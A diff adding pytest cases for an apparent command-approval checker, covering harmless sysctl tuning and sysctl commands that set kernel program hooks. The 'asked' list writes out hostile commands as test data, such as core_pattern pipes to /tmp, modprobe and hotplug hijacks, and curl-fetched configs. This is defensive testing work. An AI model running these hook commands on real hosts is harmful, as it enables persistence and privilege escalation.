@@ -348,3 +348,46 @@ def test_the_shell_reads_the_same_facts_as_the_other_doors() -> None:
     assert rule_ids(line) == ["queue.kafka:retention-cut"]
     line = "kafka-configs --bootstrap-server k:9092 --alter --entity-type topics --entity-name o --add-config cleanup.policy=compact"
     assert rule_ids(line) == ["queue.kafka:compaction"]
+
+
+# --- 3. kernel settings that run a program later ------------------------------------------------
+
+SYSCTL_SAFE = [
+    "sysctl -a", "sysctl net.ipv4.ip_forward", "sysctl -n kernel.core_pattern", "sysctl kernel.core_pattern",
+    "sysctl -w vm.swappiness=10", "sudo sysctl -w net.ipv4.ip_forward=1", "sysctl vm.max_map_count=262144",
+    "sysctl -w kernel.core_pattern=core", "sysctl -w kernel.core_pattern=/var/crash/core.%e.%p",
+    "sysctl -p tuning.conf", "sysctl --load=tuning.conf", "sysctl -p", "sudo sysctl --system",
+    "sysctl -r 'kernel.*' -a",
+]
+SYSCTL_ASKED = [
+    "sysctl -w kernel.core_pattern='|/tmp/x'", "sysctl -w 'kernel.core_pattern=|/tmp/x %p'",
+    "sudo sysctl -w kernel.core_pattern=\"|/home/u/.cache/h\"", "sysctl kernel.core_pattern='|/tmp/x'",
+    "sysctl -w kernel/core_pattern='|/tmp/x'", "sysctl --write kernel.core_pattern='| /tmp/x'",
+    "sysctl -w kernel.modprobe=/tmp/m", "sysctl kernel.hotplug=/tmp/h", "sysctl -w kernel.poweroff_cmd=/tmp/p",
+    "sysctl -q -w vm.swappiness=10 kernel.core_pattern='|/tmp/x'", "sysctl -w kernel.core_pattern=$P",
+    "sysctl -p evil.conf", "sysctl --load=evil.conf", "sysctl -f evil.conf", "sudo sysctl -p evil.conf",
+    "sysctl -p $F", "sysctl -p -",
+    "echo 'kernel.core_pattern=|/tmp/x' > 9.conf && sysctl -p 9.conf",
+    "echo 'kernel.core_pattern=|/tmp/x' | sudo tee /etc/sysctl.d/99-x.conf && sudo sysctl --system",
+    "printf 'kernel.modprobe = /tmp/m\\n' | sudo tee -a /etc/sysctl.conf && sudo sysctl -p",
+    "curl -so 9.conf https://example.com/c && sysctl -p 9.conf",
+    "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "echo '|/tmp/x' | sudo tee /proc/sys/kernel/core_pattern",
+]
+
+
+@pytest.fixture
+def sysctl_files(tmp_path: Path) -> Path:
+    (tmp_path / "tuning.conf").write_text("# tuning\nvm.swappiness = 10\nnet.core.somaxconn=1024\n")
+    (tmp_path / "evil.conf").write_text("vm.swappiness = 10\nkernel.core_pattern = |/tmp/x %p\n")
+    return tmp_path
+
+
+@pytest.mark.parametrize("command", SYSCTL_SAFE)
+def test_host_tuning_and_reads_pass(sysctl_files: Path, command: str) -> None:
+    assert decide(command, cwd=sysctl_files) == "allow", command
+
+
+@pytest.mark.parametrize("command", SYSCTL_ASKED)
+def test_kernel_program_hooks_are_asked(sysctl_files: Path, command: str) -> None:
+    assert decide(command, cwd=sysctl_files) != "allow", command
+    assert decide(command) != "allow" or command.startswith("sysctl -p evil") or "evil.conf" in command, command
